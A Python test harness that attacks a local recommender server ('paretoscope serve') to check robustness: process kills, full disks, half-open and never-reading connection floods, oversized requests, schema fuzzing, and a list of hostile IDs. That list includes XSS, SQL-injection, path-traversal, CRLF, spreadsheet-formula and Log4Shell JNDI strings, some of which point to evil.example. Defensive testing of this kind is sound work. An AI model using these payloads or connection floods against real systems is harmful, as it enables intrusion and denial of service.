"""Attacks on ``paretoscope serve``: real processes, real sockets, real disks."""

import asyncio
import json
import re
import signal
import socket
import statistics
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import aiohttp
import numpy as np
import psutil
import schemathesis
from hypothesis import HealthCheck, given, settings
from outcome import Outcome
from schemathesis import GenerationMode
from serving import request, write_study

from pipeline.study import PARAMS_FILE

ITEMS = 2_000
LOG = Path("data/served")
KILLS = DISKS = PAIRS = 20
HALF_OPEN = 1_200
UNREAD = 100
UNREAD_SECONDS = 30.0
FAULTS = 24_000
FITTING_FAULTS = 7_000
LISTS_BESIDE = 500
REQUESTS = 50_000
WARM_UP_REQUESTS = 5_000
EXAMPLES = 200
CLIENTS = 12
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "=HYPERLINK('http://evil.example')",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE impressions; --",
    "../../etc/passwd",
    "C:\\con\\nul",
    "%00%0d%0aSet-Cookie: a=b",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u202egnp.exe",
    "\U0001f4a5" * 32,
)

Post = Callable[[str, Any], Awaitable[tuple[int, Any]]]


class Server:
    """A process of ``paretoscope serve`` in a folder; ``before`` is a command that starts it."""

    def __init__(self, root: Path, *before: str) -> None:
        command = [*before, sys.executable, "-m", "pipeline.cli", "serve", "--port", "0"]
        self.process = subprocess.Popen(  # noqa: S603 - the product
            command, cwd=root, stderr=subprocess.PIPE, text=True
        )
        assert self.process.stderr is not None
        self.lines: list[str] = []
        self.url = ""
        for line in self.process.stderr:
            self.lines.append(line)
            if found := re.search(r"http://\S+", line):
                self.url = found[0]
                return

    def end(self, number: int = signal.SIGTERM) -> str:
        """Send a signal and wait; returns all lines of stderr."""
        if self.process.poll() is None:
            self.process.send_signal(number)
        assert self.process.stderr is not None
        with self.process.stderr as stream:
            self.lines += stream
        self.process.wait()
        return "".join(self.lines)


@contextmanager
def server_of(root: Path, *before: str) -> Iterator[Server]:
    """A server that is stopped at the end."""
    server = Server(root, *before)
    try:
        yield server
    finally:
        if not server.lines or server.process.poll() is None:
            server.end(signal.SIGKILL)


def study_in(root: Path) -> Path:
    """Write a small finished study."""
    write_study(root, ITEMS)
    params = root / PARAMS_FILE
    text = re.sub(r"(?m)^(  name:).*$", r"\1 bench", params.read_text("utf-8"), count=1)
    params.write_text(text, encoding="utf-8")
    return root


def with_client(url: str, scenario: Callable[[Post], Awaitable[Any]]) -> Any:
    """Run a scenario with an HTTP client."""

    async def main() -> Any:
        connector = aiohttp.TCPConnector(limit=CLIENTS)
        async with aiohttp.ClientSession(url, connector=connector) as session:

            async def post(route: str, body: Any) -> tuple[int, Any]:
                async with session.post(route, json=body) as answer:
                    return answer.status, await answer.json(content_type=None)

            return await scenario(post)

    return asyncio.run(main())


def rows_of(log: Path, table: str) -> list[dict[str, Any]]:
    """All rows of a table, those of open files included."""
    return [
        json.loads(line)
        for path in sorted(log.glob(f"{table}-*.jsonl*"))
        for line in path.read_text("utf-8").splitlines()
    ]


def tracebacks(stderr: str) -> int:
    """The number of tracebacks and leaks in the lines of a process."""
    return stderr.count("Traceback") + stderr.count("leaked")


def body_of(rng: np.random.Generator) -> dict[str, Any]:
    """The request of a healthy client."""
    return request(rng) | {"session": [f"item-{n}" for n in rng.integers(ITEMS, size=8)]}


async def lists(post: Post, rng: np.random.Generator, times: int) -> list[float]:
    """Request lists one after the other; returns the seconds of each."""
    seconds: list[float] = []
    for _ in range(times):
        started = time.perf_counter()
        status, _ = await post("/recommend", body_of(rng))
        assert status == 200, status
        seconds.append(time.perf_counter() - started)
    return seconds


def p99(seconds: list[float]) -> str:
    """The 99th percentile in milliseconds."""
    return f"{1000 * statistics.quantiles(seconds, n=100)[98]:.0f} ms"


def kill(folder: Path) -> Outcome:
    """Kill -9 under load; what was acknowledged must be in the log once."""
    root, rng = study_in(folder), np.random.default_rng(0)
    served: dict[str, list[str]] = {}
    clicks: list[str] = []
    stderr = ""

    async def load(post: Post, server: Server) -> None:
        asyncio.get_running_loop().call_later(1.0, server.process.kill)

        async def client() -> None:
            while True:
                _, answer = await post("/recommend", body_of(rng))
                served[answer["impression"]] = [one["item"] for one in answer["items"]]
                event = {"event_type": "click", "event": "1", "impression": answer["impression"]}
                status, _ = await post("/events", {"events": [event]})
                clicks.extend([answer["impression"]] * (status == 200))

        await asyncio.gather(*(client() for _ in range(CLIENTS)), return_exceptions=True)

    for _ in range(KILLS):
        with server_of(root) as server:
            with_client(server.url, lambda post, server=server: load(post, server))
            stderr += server.end()
    with server_of(root) as server:
        stderr += server.end()
    logged = Counter(row["impression"] for row in rows_of(root / LOG, "impressions"))
    events = Counter(row["impression"] for row in rows_of(root / LOG, "clicks"))
    lost = sum(logged[one] != 1 for one in served) + sum(events[one] != 1 for one in clicks)
    note = f"{len(served):,} lists and {len(clicks):,} clicks acknowledged, each in the log once"
    return Outcome(
        tried="kill -9 of `serve` under load, then a restart",
        times=KILLS,
        wrong=lost + tracebacks(stderr),
        note=note,
    )


def fill(file: Path) -> None:
    """Write to a file until the disk is full."""
    with suppress(OSError), file.open("wb", buffering=0) as stream:
        while True:
            stream.write(bytes(4096))


def full_disk(folder: Path) -> Outcome:
    """The disk of the log fills and is freed; requests get 503 in between."""
    root, rng = study_in(folder), np.random.default_rng(0)
    log = root / LOG
    log.mkdir(parents=True)
    mount = f'mount -t tmpfs -o size=16m tmpfs {log} && exec "$@"'
    served: list[str] = []
    wrong = refused = 0

    async def disks(post: Post, inside: Path) -> None:
        nonlocal wrong, refused
        for _ in range(DISKS):
            filler = inside / "filler"
            fill(filler)
            statuses: list[int] = []
            for turn in range(60):
                status, answer = await post("/recommend", body_of(rng))
                statuses.append(status)
                if status == 200:
                    served.append(answer["impression"])
                    continue
                refused += 1
                wrong += status != 503 or "No space left on device" not in answer["detail"]
                if turn < 50:
                    filler.unlink(missing_ok=True)
            wrong += 503 not in statuses or statuses[-1] != 200

    with server_of(root, "unshare", "-rm", "sh", "-c", mount, "sh") as server:
        inside = Path(f"/proc/{server.process.pid}/root") / log.relative_to("/")
        with_client(server.url, lambda post: disks(post, inside))
        logged = Counter(row["impression"] for row in rows_of(inside, "impressions"))
        stderr = server.end()
    wrong += sum(logged[one] != 1 for one in served) + len(logged.keys() - set(served))
    return Outcome(
        tried="full disk (a tmpfs of 16 MB) under `serve`, then freed",
        times=DISKS,
        wrong=wrong + tracebacks(stderr),
        note=f"{refused} requests refused with 503 and the reason, {len(served):,} lists "
        "acknowledged, each in the log once; served again when there was space",
    )


def read_only(folder: Path) -> Outcome:
    """The folder of the log cannot be written."""
    root = study_in(folder)
    log = root / LOG
    log.mkdir(parents=True)
    mount = f'mount -t tmpfs -o ro tmpfs {log} && exec "$@"'
    stderr = Server(root, "unshare", "-rm", "sh", "-c", mount, "sh").end()
    is_named = "Read-only file system; set serving.log_path to a writable folder" in stderr
    return Outcome(
        tried="`serve` with a log folder on a read-only file system",
        times=1,
        wrong=(not is_named) + tracebacks(stderr),
        note="one line names the folder and `serving.log_path`",
    )


def two_servers(folder: Path) -> Outcome:
    """A second server on the folder of the first."""
    root, rng = study_in(folder), np.random.default_rng(0)
    wrong = 0
    with server_of(root) as first:
        holder = f"(process {first.process.pid} on "
        for _ in range(PAIRS):
            stderr = Server(root).end()
            wrong += holder not in stderr or tracebacks(stderr)
        with_client(first.url, lambda post: lists(post, rng, 20))
        wrong += tracebacks(first.end())
    wrong += len(rows_of(root / LOG, "impressions")) != 20
    return Outcome(
        tried="a second `serve` on the log folder of a running one",
        times=PAIRS,
        wrong=wrong,
        note="refused in one line that names the process and the host of the first",
    )


def half_open(folder: Path) -> Outcome:
    """Connections that begin a request and stay, beside healthy clients."""
    root, rng = study_in(folder), np.random.default_rng(0)

    async def scenario(post: Post, url: str) -> tuple[list[float], int]:
        await lists(post, rng, 50)
        host, port = url.removeprefix("http://").split(":")
        opened: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
        for _ in range(HALF_OPEN):
            opened.append(await asyncio.open_connection(host, int(port)))
            opened[-1][1].write(b"POST /recommend HTTP/1.1\r\nhost: localhost\r\nx-")
        seconds = await lists(post, rng, 200)
        answers = await asyncio.gather(*(reader.read() for reader, _ in opened))
        for _, writer in opened:
            writer.close()
        return seconds, sum(not answer.startswith(b"HTTP/1.1 408") for answer in answers)

    with server_of(root) as server:
        seconds, still_open = with_client(server.url, lambda post: scenario(post, server.url))
        stderr = server.end()
    return Outcome(
        tried="connections that begin a request and stay half-open",
        times=HALF_OPEN,
        wrong=still_open + tracebacks(stderr),
        note=f"200 lists of a healthy client meanwhile, p99 {p99(seconds)}; all closed with 408",
    )


def unread(folder: Path) -> Outcome:
    """Clients that send request after request and never read, beside a healthy client."""
    root, rng = study_in(folder), np.random.default_rng(0)
    content = json.dumps(body_of(rng)).encode()
    head = b"POST /recommend HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
    sent = (head + b"content-length: %d\r\n\r\n" % len(content) + content) * 50

    async def send_on(host: str, port: int) -> float:
        client, loop, started = socket.socket(), asyncio.get_running_loop(), time.perf_counter()
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.settimeout(0)
        with client, suppress(ConnectionError, TimeoutError):
            await loop.sock_connect(client, (host, port))
            async with asyncio.timeout(3 * UNREAD_SECONDS):
                while True:
                    await loop.sock_sendall(client, sent)
        return time.perf_counter() - started

    async def scenario(post: Post, url: str, process: psutil.Process) -> tuple[Any, ...]:
        await lists(post, rng, 200)
        host, port = url.removeprefix("http://").split(":")
        before = process.memory_info().rss
        attack = asyncio.gather(*(send_on(host, int(port)) for _ in range(UNREAD)))
        seconds, memory = [], before
        while not attack.done():
            seconds += await lists(post, rng, 1)
            memory = max(memory, process.memory_info().rss)
        return seconds, await attack, memory - before

    with server_of(root) as server:
        process = psutil.Process(server.process.pid)
        seconds, closed, memory = with_client(
            server.url, lambda post: scenario(post, server.url, process)
        )
        stderr = server.end()
    is_open = sum(one > 2 * UNREAD_SECONDS for one in closed)
    return Outcome(
        tried="connections that send lists' requests without end and read nothing",
        times=UNREAD,
        wrong=is_open + (memory > UNREAD * 2**20) + tracebacks(stderr),
        note=f"closed after {min(closed):.0f} to {max(closed):.0f} s; the server's memory grew by "
        f"{memory / 2**20:.0f} MiB; {len(seconds):,} lists of a healthy client, p99 {p99(seconds)}",
    )


def faulty_bodies() -> dict[bytes, int]:
    """Bodies with many unknown fields, and the status of the response to each."""
    bodies: dict[bytes, int] = {}
    for n, status in ((FAULTS, 413), (FITTING_FAULTS, 422)):
        body = {"user": "a", "session": [], **{str(key): 1 for key in range(n)}}
        bodies[json.dumps(body, separators=(",", ":")).encode()] = status
    return bodies


def faults(folder: Path) -> Outcome:
    """Requests with 24,000 faults each, or as many as a body may have, beside a healthy client."""
    root, rng, bodies = study_in(folder), np.random.default_rng(0), faulty_bodies()
    sizes: list[int] = []

    async def attack(session: aiohttp.ClientSession) -> None:
        while True:
            for content, status in bodies.items():
                async with session.post("/recommend", data=content) as answer:
                    assert answer.status == status
                    sizes.append(len(await answer.read()))

    async def scenario(post: Post, url: str) -> tuple[list[float], list[float]]:
        await lists(post, rng, 50)
        alone = await lists(post, rng, LISTS_BESIDE)
        headers = {"content-type": "application/json"}
        async with aiohttp.ClientSession(url, headers=headers) as session:
            attacking = asyncio.create_task(attack(session))
            beside = await lists(post, rng, LISTS_BESIDE)
            assert not attacking.done(), attacking.exception()
            attacking.cancel()
        return alone, beside

    with server_of(root) as server:
        alone, beside = with_client(server.url, lambda post: scenario(post, server.url))
        stderr = server.end()
    is_slow = statistics.quantiles(beside, n=100)[98] >= 0.1
    return Outcome(
        tried=f"requests with {FAULTS:,} faults (413) and {FITTING_FAULTS:,} faults (422), in turn",
        times=len(sizes),
        wrong=is_slow + (max(sizes) > 1000) + tracebacks(stderr),
        note=f"others' p99 {p99(beside)} of {len(beside)} lists ({p99(alone)} without); answers of at most "
        f"{max(sizes)} bytes, without what was sent",
    )


def many_requests(folder: Path) -> Outcome:
    """Lists and clicks; the memory of the server."""
    root, rng = study_in(folder), np.random.default_rng(0)

    async def run(post: Post, times: int) -> None:
        async def client() -> None:
            for _ in range(times // CLIENTS // 2):
                _, answer = await post("/recommend", body_of(rng))
                event = {"event_type": "click", "event": "1", "impression": answer["impression"]}
                status, _ = await post("/events", {"events": [event]})
                assert status == 200

        await asyncio.gather(*(client() for _ in range(CLIENTS)))

    with server_of(root) as server:
        process = psutil.Process(server.process.pid)
        with_client(server.url, lambda post: run(post, WARM_UP_REQUESTS))
        before = process.memory_info().rss
        with_client(server.url, lambda post: run(post, REQUESTS))
        growth = process.memory_info().rss / before - 1
        stderr = server.end()
    return Outcome(
        tried="requests to one server, half of them lists and half clicks",
        times=REQUESTS,
        wrong=(growth >= 0.05) + tracebacks(stderr),
        note=f"memory from {before / 2**20:.0f} MiB by {growth:+.1%} (after {WARM_UP_REQUESTS:,} "
        "requests of warm-up)",
    )


def schema_examples(folder: Path) -> Outcome:
    """Valid and invalid requests from the OpenAPI; every answer must conform to it."""
    root, tried = study_in(folder), Counter[str]()
    failures = 0
    with server_of(root) as server:
        schema = schemathesis.openapi.from_url(f"{server.url}/openapi.json")
        operations = [found.ok() for found in schema.get_all_operations()]
        for operation in operations:
            for mode in GenerationMode if operation.method == "post" else [GenerationMode.POSITIVE]:

                @settings(
                    max_examples=EXAMPLES * (2 if operation.path == "/events" else 1) + 50,
                    deadline=None,
                    database=None,
                    suppress_health_check=list(HealthCheck),
                )
                @given(operation.as_strategy(mode))
                def check(case: Any) -> None:
                    tried[case.operation.path] += 1
                    case.call_and_validate()

                try:
                    check()
                except Exception as error:  # noqa: BLE001 - every failure is a row of the result
                    failures += 1
                    print(error, file=sys.stderr)
        stderr = server.end()
    return Outcome(
        tried="valid and invalid requests from the OpenAPI (schemathesis)",
        times=sum(tried.values()),
        wrong=failures + tracebacks(stderr),
        note=f"{len(tried)} routes; no server error, every answer conforms to the OpenAPI",
    )


def hostile_ids(folder: Path) -> Outcome:
    """Ids of users, items, events and groups with HTML, formulas, SQL and paths."""
    root = study_in(folder)
    wrong = tried = 0

    async def scenario(post: Post) -> None:
        nonlocal wrong, tried
        for text in HOSTILE:
            _, answer = await post(
                "/recommend", {"user": text, "session": [text, "item-1"], "exclude": [text]}
            )
            event = {"event_type": "click", "event": text, "impression": text, "item": text}
            status, _ = await post("/events", {"events": [event]})
            front = {"preference": [0.5, 0.5], "session": [text, "item-1"]}
            views = [await post("/explore/lists", front | more) for more in ({}, {"group": text})]
            wrong += (status, answer["unknown_items"]) != (200, 2)
            wrong += [view[0] for view in views] != [200, 404] or views[0][1]["unknown"] != [text]
            tried += 4

    files = {path for path in root.rglob("*") if path.parent != root / LOG}
    with server_of(root) as server:
        with_client(server.url, scenario)
        stderr = server.end()
    log = root / LOG
    wrong += [row["user"] for row in rows_of(log, "impressions")] != list(HOSTILE)
    wrong += [row["event"] for row in rows_of(log, "clicks")] != list(HOSTILE)
    new = {path for path in root.rglob("*") if path.parent != log} - files
    wrong += len(new - {log, log / "confirmations"})
    wrong += sum(text in stderr for text in HOSTILE)
    return Outcome(
        tried="ids with HTML, formulas, SQL, paths and control sequences to `serve` and explorer",
        times=tried,
        wrong=wrong + tracebacks(stderr),
        note="logged as they are, in JSON; no file besides the log, nothing of them on stderr",
    )


ATTACKS: dict[str, Callable[[Path], Outcome]] = {
    "kill-serve": kill,
    "full-disk-serve": full_disk,
    "read-only-serve": read_only,
    "two-servers": two_servers,
    "half-open": half_open,
    "unread": unread,
    "faults": faults,
    "many-requests": many_requests,
    "openapi": schema_examples,
    "hostile-ids-serve": hostile_ids,
}
"""The attacks on serving, by name."""
